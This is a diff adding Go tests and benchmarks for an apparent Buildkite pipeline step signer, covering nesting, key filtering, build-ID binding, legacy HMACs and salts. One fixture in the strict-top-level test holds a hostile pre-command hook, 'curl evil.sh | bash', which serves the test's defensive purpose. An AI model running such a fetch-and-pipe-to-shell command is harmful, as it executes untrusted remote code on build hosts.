+	for _, tc := range []struct {
+		Name         string
+		PipelineJSON string
+		Expected     string
+	}{
+		{
+			"Group",
+			`{"steps":[{"group":"Tests","steps":[{"command":"make test"}]}]}`,
+			`{"steps":[{"group":"Tests","steps":[{"command":"make test","env":{"STEP_SIGNATURE":"signature(make test,)"}}]}]}`,
+		},
+		{
+			"Steps without a group",
+			`{"steps":[{"label":"Tests","steps":[{"command":"make test"}]}]}`,
+			`{"steps":[{"label":"Tests","steps":[{"command":"make test","env":{"STEP_SIGNATURE":"signature(make test,)"}}]}]}`,
+		},
+		{
+			"Hypothetical container step",
+			`{"steps":[{"container":{"name":"Tests","steps":[{"command":"make test"},"wait",{"command":"make lint"}]}}]}`,
+			`{"steps":[{"container":{"name":"Tests","steps":[{"command":"make test","env":{"STEP_SIGNATURE":"signature(make test,)"}},"wait",{"command":"make lint","env":{"STEP_SIGNATURE":"signature(make lint,)"}}]}}]}`,
+		},
+		{
+			"Container step with its own command",
+			`{"steps":[{"command":"echo outer","container":{"steps":[{"command":"echo inner"}]}}]}`,
+			`{"steps":[{"command":"echo outer","container":{"steps":[{"command":"echo inner","env":{"STEP_SIGNATURE":"signature(echo inner,)"}}]},"env":{"STEP_SIGNATURE":"signature(echo outer,)"}}]}`,
+		},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			signer := NewSharedSecretSigner("secret-llamas")
+			signer.signerFunc = func(content stepContent) (Signature, error) {
+				return Signature(fmt.Sprintf("signature(%s,%s)", content.Command, content.PluginJSON)), nil
+			}
+			var pipeline interface{}
+			if err := json.Unmarshal([]byte(tc.PipelineJSON), &pipeline); err != nil {
+				t.Fatal(err)
+			}
+			signed, report, err := signer.SignWithReport(pipeline)
+			if err != nil {
+				t.Fatal(err)
+			}
+			signedJSON, err := json.Marshal(signed)
+			if err != nil {
+				t.Fatal(err)
+			}
+			assert.Equal(t, tc.Expected, string(signedJSON))
+			// each step is only signed once
+			assert.Equal(t, strings.Count(tc.Expected, stepSignatureEnv), report.Signed)
+		})
+	}
+}
+
+func TestSignOnlyMatchingSteps(t *testing.T) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"steps":[
+		{"key":"deploy-production","command":"deploy.sh production"},
+		{"key":"test","command":"make test"},
+		{"label":"deploy-staging","command":"deploy.sh staging"},
+		{"command":"echo unnamed"}
+	]}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.signOnly = regexp.MustCompile(`^deploy-`)
+	signed, report, err := signer.SignWithReport(pipeline)
+	assert.Nil(t, err)
+
+	var signedSteps []string
+	walkSteps(signed, func(step map[string]interface{}) {
+		if _, ok := stepSignature(step); ok {
+			signedSteps = append(signedSteps, stepName(step))
+		} else {
+			assert.NotContains(t, step, "env")
+		}
+	})
+	assert.Equal(t, []string{"deploy-production", "deploy-staging"}, signedSteps)
+	assert.Equal(t, 2, report.Signed)
+}
+
+func TestSigningIgnoredStepKeys(t *testing.T) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"steps":[
+		{"key":"third-party","command":"vendor.sh","plugins":["vendor/tool#v1.0.0"]},
+		{"key":"test","command":"make test"},
+		{"group":"Nested","steps":[{"identifier":"also-third-party","command":"vendor.sh"}]}
+	]}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.ignoredStepKeys = []string{"third-party", "also-third-party"}
+	signed, report, err := signer.SignWithReport(pipeline)
+	assert.Nil(t, err)
+
+	var signedSteps []string
+	walkSteps(signed, func(step map[string]interface{}) {
+		if _, ok := stepSignature(step); ok {
+			signedSteps = append(signedSteps, stepName(step))
+		}
+	})
+	assert.Equal(t, []string{"test"}, signedSteps)
+	assert.Equal(t, SignReport{Signed: 1, Skipped: []string{"third-party", "vendor.sh"}}, *report)
+}
+
+func TestSigningStrictTopLevel(t *testing.T) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"env":{"A":"b"},"agents":{"queue":"default"},"notify":[],"steps":[{"command":"make test"}],"hooks":{"pre-command":"curl evil.sh | bash"}}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signed, err := signer.Sign(pipeline)
+	assert.Nil(t, err)
+	assert.Contains(t, signed, "hooks", "unknown keys are copied through by default")
+
+	signer.strictTopLevel = true
+	_, err = signer.Sign(pipeline)
+	assert.EqualError(t, err, "🚨 Pipeline has top level keys that aren't understood: hooks. With --strict-top-level only agents, env, image, notify, steps are allowed")
+
+	delete(pipeline.(map[string]interface{}), "hooks")
+	_, err = signer.Sign(pipeline)
+	assert.Nil(t, err)
+}
+
+func TestSignDataWithExplicitBuildID(t *testing.T) {
+	// the build of the process isn't used when one is given
+	t.Setenv(buildkiteBuildIDEnv, "build-of-the-process")
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.buildID = "build-abc"
+	content := stepContent{
+		Command:    "echo hello world",
+		PluginJSON: `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.0.0":{"image":"node"}}]`,
+	}
+
+	signature, err := signer.signData(content)
+	assert.Nil(t, err)
+	assert.Equal(t, Signature("sha256:3f9b2005dcfb15d03b5db8cbe4be5e2af2fdd43fd1b46023190a0cee14c0394c"), signature)
+
+	signer.buildID = "build-xyz"
+	signature, err = signer.signData(content)
+	assert.Nil(t, err)
+	assert.Equal(t, Signature("sha256:136905bd4b8e6aaf7738f102cbcc53ef806947d13c979c06f4a18edd3f3e3ab6"), signature)
+}
+
+func TestSigningRequiresStepKeys(t *testing.T) {
+	for _, tc := range []struct {
+		Name     string
+		Pipeline string
+		Err      string
+	}{
+		{"keyed", `{"steps":[{"key":"test","command":"make test"},"wait",{"block":"Release"}]}`, ""},
+		{"identifier", `{"steps":[{"identifier":"test","command":"make test"}]}`, ""},
+		{"unkeyed", `{"steps":[{"key":"test","command":"make test"},{"label":"Deploy","command":"deploy.sh"}]}`,
+			`🚨 Step "Deploy" has no key, --require-step-keys requires every signed step to have one`},
+		{"nested", `{"steps":[{"group":"Nested","key":"group","steps":[{"command":"deploy.sh"}]}]}`,
+			`🚨 Step "deploy.sh" has no key, --require-step-keys requires every signed step to have one`},
+	} {
+		t.Run(tc.Name, func(t *testing.T) {
+			var pipeline interface{}
+			if err := json.Unmarshal([]byte(tc.Pipeline), &pipeline); err != nil {
+				t.Fatal(err)
+			}
+
+			signer := NewSharedSecretSigner("secret-llamas")
+			_, err := signer.Sign(pipeline)
+			assert.Nil(t, err, "keys are only required in strict mode")
+
+			signer.requireStepKeys = true
+			_, err = signer.Sign(pipeline)
+			if tc.Err == "" {
+				assert.Nil(t, err)
+			} else {
+				assert.EqualError(t, err, tc.Err)
+			}
+		})
+	}
+}
+
+func TestRequireBuildID(t *testing.T) {
+	pipeline := map[string]interface{}{
+		"steps": []interface{}{map[string]interface{}{"command": "make test"}},
+	}
+	const missing = "🚨 BUILDKITE_BUILD_ID isn't set, --require-build-id requires signatures to be bound to a build"
+
+	t.Setenv(buildkiteBuildIDEnv, "")
+	signer := NewSharedSecretSigner("secret-llamas")
+	signed, err := signer.Sign(pipeline)
+	assert.Nil(t, err, "an empty build ID is only rejected when required")
+	sig, _ := stepSignature(signed.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{}))
+	assert.Nil(t, signer.Verify("make test", "", sig))
+
+	signer.requireBuildID = true
+	_, err = signer.Sign(pipeline)
+	assert.EqualError(t, err, missing)
+	assert.EqualError(t, signer.Verify("make test", "", sig), missing)
+
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signed, err = signer.Sign(pipeline)
+	assert.Nil(t, err)
+	sig, _ = stepSignature(signed.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{}))
+	assert.Nil(t, signer.Verify("make test", "", sig))
+}
+
+// legacyHMAC signs a step as versions that didn't bind signatures to a build did
+func legacyHMAC(secret, command, pluginJSON string) Signature {
+	h := hmac.New(sha256.New, []byte(secret))
+	h.Write([]byte(command + pluginJSON))
+	return Signature(fmt.Sprintf("sha256:%x", h.Sum(nil)))
+}
+
+func TestAcceptLegacySignatures(t *testing.T) {
+	output := captureLog(t)
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+
+	pluginJSON := `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.0.0":{"image":"node"}}]`
+	legacy := legacyHMAC("secret-llamas", "make test", pluginJSON)
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	assert.Equal(t, errSignatureMismatch, signer.Verify("make test", pluginJSON, legacy),
+		"legacy signatures are only accepted when allowed")
+
+	signer.acceptLegacy = true
+	assert.Nil(t, signer.Verify("make test", pluginJSON, legacy))
+	assert.Contains(t, output.String(), "⚠️ Accepted a legacy signature that isn't bound to build build-1")
+
+	// the legacy construction doesn't accept other steps
+	assert.Equal(t, errSignatureMismatch, signer.Verify("make deploy", pluginJSON, legacy))
+	assert.Equal(t, errSignatureMismatch, signer.Verify("make test", "", legacy))
+
+	// current signatures verify without a warning
+	output.Reset()
+	current, err := signer.signData(stepContent{Command: "make test", PluginJSON: pluginJSON})
+	assert.Nil(t, err)
+	assert.Nil(t, signer.Verify("make test", pluginJSON, current))
+	assert.NotContains(t, output.String(), "legacy")
+}
+
+func TestScalarPluginMatchesArraySyntax(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	scalar, err := signer.extractPlugins("docker#v1.4.0")
+	assert.Nil(t, err)
+
+	array, err := signer.extractPlugins([]interface{}{"docker#v1.4.0"})
+	assert.Nil(t, err)
+
+	assert.Equal(t, array, scalar)
+}
+
+func TestNullPluginsSignAsNoPlugins(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	withNull := signedStepSignature(t, signer, `{"command":"make test","plugins":null}`)
+	assert.Equal(t, signedStepSignature(t, signer, `{"command":"make test"}`), withNull)
+
+	assert.Nil(t, signer.Verify("make test", "", withNull))
+
+	var step map[string]interface{}
+	if err := yaml.Unmarshal([]byte("command: make test\nplugins:\n"), &step); err != nil {
+		t.Fatal(err)
+	}
+	pluginJSON, err := signer.extractPlugins(step["plugins"])
+	assert.Nil(t, err)
+	assert.Equal(t, "", pluginJSON)
+}
+
+func TestSigningRejectsNestedEnvValues(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	_, err := signer.Sign(map[string]interface{}{
+		"steps": []interface{}{
+			map[string]interface{}{
+				"command": "echo hello",
+				"env":     map[string]interface{}{"NESTED": map[string]interface{}{"a": "b"}},
+			},
+		},
+	})
+	assert.EqualError(t, err, "Unexpected type for env NESTED: map[string]interface {}")
+}
+
+func TestSigningRejectsMalformedSteps(t *testing.T) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"steps":{"build":{"command":"echo hello"}}}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	_, err := NewSharedSecretSigner("secret-llamas").Sign(pipeline)
+	assert.EqualError(t, err, "Unexpected type for steps: map[string]interface {}, expected a list of steps")
+}
+
+// largePipeline returns a pipeline of steps with commands, plugins and env
+func largePipeline(b *testing.B, steps int) interface{} {
+	var stepsJSON []string
+	for i := 0; i < steps; i++ {
+		stepsJSON = append(stepsJSON, fmt.Sprintf(`{"label":"Step %d","command":["echo %d","make test"],`+
+			`"env":{"STEP":"%d","DEBUG":true},"plugins":[{"docker#v3.8.0":{"image":"node:16"}}]}`, i, i, i))
+		if i%10 == 0 {
+			stepsJSON = append(stepsJSON, `"wait"`)
+		}
+	}
+
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"env":{"GLOBAL":"1"},"steps":[`+strings.Join(stepsJSON, ",")+`]}`), &pipeline); err != nil {
+		b.Fatal(err)
+	}
+	return pipeline
+}
+
+func BenchmarkSignLargePipeline(b *testing.B) {
+	log.SetOutput(io.Discard)
+	b.Cleanup(func() {
+		log.SetOutput(os.Stderr)
+	})
+
+	pipeline := largePipeline(b, 5000)
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if _, err := signer.Sign(pipeline); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// signSaltedStep signs a single step with a salt, returning its signature and salt
+func signSaltedStep(t *testing.T, signer *SharedSecretSigner, stepJSON string) (Signature, string) {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(`{"steps":[`+stepJSON+`]}`), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signer.includeSalt = true
+	signed, err := signer.Sign(pipeline)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	step := signed.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{})
+	sig, _ := stepSignature(step)
+	salt, ok := stepEnvValue(step, stepSignatureSaltEnv)
+	if !ok {
+		t.Fatalf("No %s in step env", stepSignatureSaltEnv)
+	}
+	return sig, salt
+}
+
+func TestSigningWithSalt(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	sig, salt := signSaltedStep(t, signer, `{"command":"echo hello"}`)
+	assert.Len(t, salt, 32)
+
+	t.Setenv(stepSignatureSaltEnv, salt)
+	assert.Nil(t, signer.Verify("echo hello", "", sig))
+
+	// identical steps are signed differently each time
+	otherSig, otherSalt := signSaltedStep(t, signer, `{"command":"echo hello"}`)
+	assert.NotEqual(t, salt, otherSalt)
+	assert.NotEqual(t, sig, otherSig)
+}
+
+func TestSigningWithSaltRejectsChangedSalt(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	sig, _ := signSaltedStep(t, signer, `{"command":"echo hello","env":["FOO=bar"]}`)
+
+	t.Setenv(stepSignatureSaltEnv, "0123456789abcdef0123456789abcdef")
+	assert.Equal(t, errSignatureMismatch, signer.Verify("echo hello", "", sig))
+
+	t.Setenv(stepSignatureSaltEnv, "")
+	assert.Equal(t, errSignatureMismatch, signer.Verify("echo hello", "", sig))
+}
+
+func TestSigningWithSaltRejectsSaltMovedIntoTimestamp(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	now := time.Unix(1600000000, 0)
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.maxAge = 10 * time.Minute
+	signer.now = func() time.Time {
+		return now
+	}
+
+	const salt = "0123456789abcdef0123456789abcd16"
+	sig, err := signer.signData(stepContent{Command: "echo hello", Salt: salt})
+	assert.Nil(t, err)
+	issuedAt, _ := sig.issuedAt()
+	assert.Equal(t, "1600000000", issuedAt)
+	mac := strings.TrimSuffix(string(sig), issuedAt)
+
+	// the same characters split differently between the salt and timestamp,
+	// e.g. to push the issued at time far into the future
+	for _, tc := range []struct {
+		Salt     string
+		IssuedAt string
+	}{
+		{"0123456789abcdef0123456789abcd1", "61600000000"},
+		{"0123456789abcdef0123456789abcd", "161600000000"},
+		{"0123456789abcdef0123456789abcd161", "600000000"},
+	} {
+		t.Setenv(stepSignatureSaltEnv, tc.Salt)
+		assert.Equal(t, errSignatureMismatch, signer.Verify("echo hello", "", Signature(mac+tc.IssuedAt)), tc.IssuedAt)
+	}
+
+	t.Setenv(stepSignatureSaltEnv, salt)
+	assert.Nil(t, signer.Verify("echo hello", "", sig))
+}
+
+func TestSigningWithoutSaltDropsExistingSalt(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.signerFunc = func(content stepContent) (Signature, error) {
+		assert.Empty(t, content.Salt)
+		return "signature", nil
+	}
+
+	signed, err := signer.Sign(map[string]interface{}{
+		"steps": []interface{}{
+			map[string]interface{}{"command": "echo hello", "env": map[string]interface{}{stepSignatureSaltEnv: "stale"}},
+			map[string]interface{}{"command": "echo hello", "env": []interface{}{stepSignatureSaltEnv + "=stale"}},
+		},
+	})
+	assert.Nil(t, err)
+
+	walkSteps(signed, func(step map[string]interface{}) {
+		_, ok := stepEnvValue(step, stepSignatureSaltEnv)
+		assert.False(t, ok)
+	})
+}
+
+// largePluginSettings returns plugin settings embedding a large payload, such as
+// base64 encoded data, alongside many ordinary settings
+func largePluginSettings(size int) map[string]interface{} {
+	settings := map[string]interface{}{
+		"data": base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("llamas"), size/8)),
+	}
+	for i := 0; i < 100; i++ {
+		settings[fmt.Sprintf("setting-%d", i)] = []interface{}{fmt.Sprintf("value-%d", i), float64(i), true, nil}
+	}
+	return settings
+}
+
+func BenchmarkExtractLargePluginSettings(b *testing.B) {
+	log.SetOutput(io.Discard)
+	b.Cleanup(func() {
+		log.SetOutput(os.Stderr)
+	})
+
+	plugins := []interface{}{
+		map[string]interface{}{"docker#v3.8.0": largePluginSettings(1 << 20)},
+		map[string]interface{}{"seek-oss/aws-sm#v2.3.1": map[string]interface{}{"env": map[string]interface{}{"SECRET": "my-secret"}}},
+		"artifacts#v1.5.0",
+	}
+	signer := NewSharedSecretSigner("secret-llamas")
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if _, err := signer.extractPlugins(plugins); err != nil {
+			b.Fatal(err)
+		}
+	}
+}